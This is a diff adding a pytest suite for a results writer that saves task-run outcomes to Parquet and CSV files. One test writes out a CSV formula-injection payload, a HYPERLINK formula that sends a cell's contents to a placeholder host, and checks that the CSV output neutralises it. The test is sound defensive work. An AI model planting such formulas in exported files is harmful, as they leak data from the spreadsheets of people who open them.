@@ -1,0 +1,210 @@
+"""Results of a run. If these break, a lost row goes unseen, or a catalog runs a formula in the
+spreadsheet of whoever opens the results."""
+
+from __future__ import annotations
+
+import csv
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any, get_args
+
+import pyarrow.parquet
+import pytest
+
+from ace_tasks import results
+from ace_tasks.model.variants import find_variant
+from ace_tasks.provenance import Done, Failed, record_key
+from ace_tasks.results import (
+    FAILED_STATUSES,
+    BrokenRun,
+    Result,
+    ResultsWriter,
+    Status,
+    Summary,
+    Tally,
+)
+from ace_tasks.specs import Source, Sources, WorkItem, parse_spec, work_item
+
+RESULTS = {
+    "done": Result(
+        line=1,
+        row_id="a",
+        task="fill",
+        status="done",
+        item_id="01" * 32,
+        output_uri="s3://b/images/a/x.png",
+        sha256="ff" * 32,
+        seconds=1.25,
+    ),
+    "done_before": Result(
+        line=2, row_id="b", task="edit", status="done_before", item_id="02" * 32, same_as="a"
+    ),
+    "failed": Result(
+        line=3,
+        row_id="c",
+        task="edit",
+        status="failed",
+        item_id="03" * 32,
+        error_code="bad_mask",
+        error='says "no", and\nmore: é',
+    ),
+    "failed_before": Result(
+        line=4,
+        row_id="d",
+        task="edit",
+        status="failed_before",
+        item_id="04" * 32,
+        error_code="bad_mask",
+        error="why",
+    ),
+    "rejected": Result(
+        line=5, row_id=None, task=None, status="rejected", error_code="bad_row", error="id: missing"
+    ),
+}
+
+
+@pytest.fixture
+def item() -> WorkItem:
+    row = {"id": "a", "task": "edit", "image": "s3://b/i", "prompt": "p"}
+    sources = Sources(image=Source(uri="s3://b/i", etag="1"))
+    return work_item(9, parse_spec(row), sources, find_variant("toy").identity())
+
+
+def write(folder: Path, rows: list[Result]) -> tuple[list[dict[str, Any]], list[dict[str, str]]]:
+    """What stands in the Parquet file and in the CSV file."""
+    parquet_path, csv_path = folder / "results.parquet", folder / "results.csv"
+    with ResultsWriter(parquet_path, csv_path) as writer:
+        for row in rows:
+            writer.write(row)
+    with csv_path.open(newline="") as file:
+        return pyarrow.parquet.read_table(parquet_path).to_pylist(), [*csv.DictReader(file)]
+
+
+def test_there_is_an_example_of_every_status() -> None:
+    assert RESULTS.keys() == set(get_args(Status))
+    assert {status for status, each in RESULTS.items() if each.error_code} == FAILED_STATUSES
+
+
+@pytest.mark.parametrize("result", RESULTS.values(), ids=RESULTS)
+def test_parquet_and_csv_agree_on_every_status(tmp_path: Path, result: Result) -> None:
+    (in_parquet,), (in_csv,) = write(tmp_path, [result])
+    assert [*in_parquet] == [*in_csv]
+    assert {k: "" if v is None else str(v) for k, v in in_parquet.items()} == in_csv
+    for name in Result.__dataclass_fields__:
+        assert in_parquet[name] == getattr(result, name)
+    done = result.status in {"done", "done_before"}
+    assert in_parquet["record"] == (record_key(str(result.item_id)) if done else None)
+
+
+def test_many_results_are_streamed_in_order(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(results, "_BATCH_ROWS", 10)
+    rows = [Result(line=n, row_id=str(n), task="fill", status="done") for n in range(25)]
+    in_parquet, in_csv = write(tmp_path, rows)
+    assert [row["line"] for row in in_parquet] == [*range(25)]
+    assert [row["line"] for row in in_csv] == [str(n) for n in range(25)]
+    assert pyarrow.parquet.ParquetFile(tmp_path / "results.parquet").num_row_groups == 3
+
+
+def test_a_run_without_rows_still_leaves_its_columns(tmp_path: Path) -> None:
+    assert write(tmp_path, []) == ([], [])
+    assert pyarrow.parquet.read_schema(tmp_path / "results.parquet").equals(results.SCHEMA)
+
+
+def test_an_outcome_becomes_the_result_of_its_row(item: WorkItem) -> None:
+    done = Done(item_id=item.item_id, output_uri="s3://b/o", sha256="ff", seconds=2.5)
+    assert Result.of(item, done) == Result(
+        line=9,
+        row_id="a",
+        task="edit",
+        status="done",
+        item_id=item.item_id,
+        output_uri="s3://b/o",
+        sha256="ff",
+        seconds=2.5,
+    )
+    failed = Failed(item_id=item.item_id, code="timeout", message="why", transient=False)
+    assert Result.of(item, failed) == Result(
+        line=9,
+        row_id="a",
+        task="edit",
+        status="failed",
+        item_id=item.item_id,
+        error_code="timeout",
+        error="why",
+    )
+
+
+@pytest.mark.parametrize("expected", [4, 6, 0])
+def test_a_row_lost_or_told_twice_breaks_the_run(tmp_path: Path, expected: int) -> None:
+    with ResultsWriter(tmp_path / "r.parquet", tmp_path / "r.csv") as writer:
+        for result in RESULTS.values():
+            writer.write(result)
+        with pytest.raises(BrokenRun, match=f"{expected} rows were read but 5 .*'rejected': 1"):
+            writer.check_complete(expected)
+        writer.check_complete(5)
+
+
+def test_the_tally_counts_by_status_and_by_error() -> None:
+    tally = Tally()
+    for result in [*RESULTS.values(), RESULTS["done"]]:
+        tally.add(result)
+    assert (tally.total, tally.not_done) == (6, 3)
+    assert tally.by_status["done"] == 2
+    assert dict(tally.by_error) == {"bad_mask": 2, "bad_row": 1}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_formula_is_disarmed_in_the_csv_only(tmp_path: Path, start: str) -> None:
+    """Messages and rejected rows quote the catalog; a spreadsheet would run them."""
+    text = f'{start}HYPERLINK("http://host?"&A1)'
+    rows = [
+        Result(line=1, row_id=text, task=text, status="rejected", error_code="bad_row", error=text),
+        Result(line=2, row_id="-a", task="edit", status="failed", error_code="x", error=text),
+    ]
+    in_parquet, in_csv = write(tmp_path, rows)
+    assert [row["error"] for row in in_parquet] == [text, text]
+    assert [row["error"] for row in in_csv] == [f"'{text}", f"'{text}"]
+    assert (in_parquet[0]["row_id"], in_csv[0]["row_id"]) == (text, f"'{text}")
+    assert in_csv[0]["task"] == f"'{text}"
+    assert in_csv[1]["row_id"] == "-a"  # a valid id: what joins the table to its catalog
+
+
+@pytest.mark.parametrize(
+    ("counts", "line"),
+    [
+        ({"rows": 3, "done": 3}, "3 done, 0 done before, of 3 rows"),
+        ({"rows": 3, "done_before": 3}, "0 done, 3 done before, of 3 rows"),
+        (
+            {"rows": 15, "done": 1, "done_before": 2, "failed": 3, "failed_before": 4,
+             "rejected": 5},
+            "1 done, 2 done before, 7 failed, 5 rejected, of 15 rows",
+        ),
+    ],
+)  # fmt: skip
+def test_the_summary_line_says_what_happened(counts: dict[str, int], line: str) -> None:
+    zero = dict.fromkeys(("done", "done_before", "failed", "failed_before", "rejected"), 0)
+    moment = datetime(2025, 1, 1, tzinfo=UTC)
+    summary = Summary(
+        run_id="r",
+        state="Completed",
+        catalog="c",
+        output="o",
+        variant="toy",
+        started_at=moment,
+        ended_at=moment,
+        shared=0,
+        by_error={},
+        replicas=1,
+        deaths=0,
+        seconds=1,
+        items_per_second=1,
+        busy_share=None,
+        results="r.csv",
+        failures=None,
+        rejects=None,
+        **(zero | counts),  # type: ignore[arg-type]
+    )
+    assert summary.line == line
+    assert Summary.model_validate_json(summary.model_dump_json()) == summary
